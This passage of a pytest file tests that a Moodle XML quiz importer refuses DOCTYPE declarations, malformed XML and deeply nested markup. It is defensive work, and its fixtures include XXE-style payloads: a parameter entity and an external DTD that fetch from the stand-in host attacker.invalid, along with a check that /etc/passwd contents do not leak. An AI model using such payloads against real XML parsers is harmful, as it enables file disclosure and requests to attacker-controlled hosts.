<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<quiz/>
"""
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE quiz SYSTEM "http://attacker.invalid/quiz.dtd">\n<quiz/>\n'
PLAIN_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE quiz>\n<quiz/>\n'


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "plain-dtd"],
)
def test_document_type_declarations_are_refused_without_expansion(data: bytes) -> None:
    with pytest.raises(ParseError) as refused:
        read_moodle_xml(data)
    assert "<!DOCTYPE quiz>" in refused.value.message
    assert "refused" in refused.value.message
    assert "lollol" not in str(refused.value) and "root:" not in str(refused.value)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"Who was buried in Grant's tomb? {=Grant ~no one}", "not well-formed XML: syntax error"),
        (b'{"questions": []}', "not well-formed XML"),
        (b"<quiz><question type='description'>", "not well-formed XML: no element found"),
        (b"<quiz></question></quiz>", "not well-formed XML: mismatched tag"),
        (b"\xff\xfe<\x00q\x00", "not well-formed XML"),
    ],
)
def test_not_xml_raises_parse_error(data: bytes, reason: str) -> None:
    with pytest.raises(ParseError) as failed:
        read_moodle_xml(data)
    assert reason in failed.value.message


def test_wrong_root_element_raises_parse_error() -> None:
    with pytest.raises(ParseError) as failed:
        read_moodle_xml(b'<?xml version="1.0"?><html><body>Quiz</body></html>')
    assert failed.value.message == "This is not a Moodle XML question file: its root is <html>, not <quiz>."


def test_html_entity_outside_cdata_raises_parse_error_with_line_and_hint() -> None:
    data = b"<quiz>\n<question type='description'>\n<name><text>A&nbsp;B</text></name></question></quiz>"
    with pytest.raises(ParseError) as failed:
        read_moodle_xml(data)
    assert failed.value.line == 3
    assert "undefined entity" in failed.value.message and "CDATA" in failed.value.message


def test_pluginfile_inside_xhtml_attributes_is_noticed() -> None:
    element = (
        '<question type="description"><name><text>Q</text></name><questiontext format="html">'
        '<text><p><img src="@@PLUGINFILE@@/a.png" alt="A"/></p></text></questiontext></question>'
    )
    report = read_moodle_xml(quiz(element))
    assert report.questions[0].text == '<p><img src="@@PLUGINFILE@@/a.png" alt="A" /></p>'
    assert [issue.skipped for issue in report.issues] == [False]


def test_markup_nested_thousands_deep_in_a_text_raises_parse_error() -> None:
    deep = "<b>" * 5000 + "x" + "</b>" * 5000
    with pytest.raises(ParseError) as failed:
        read_moodle_xml(quiz(f'<question type="description"><name><text>{deep}</text></name></question>'))
    assert "too deeply" in failed.value.message


def test_deeply_nested_unknown_elements_outside_texts_are_ignored() -> None:
    junk = "<junk>" * 50000 + "</junk>" * 50000
    assert read_one(question("description", junk, title="Still here")).title == "Still here"
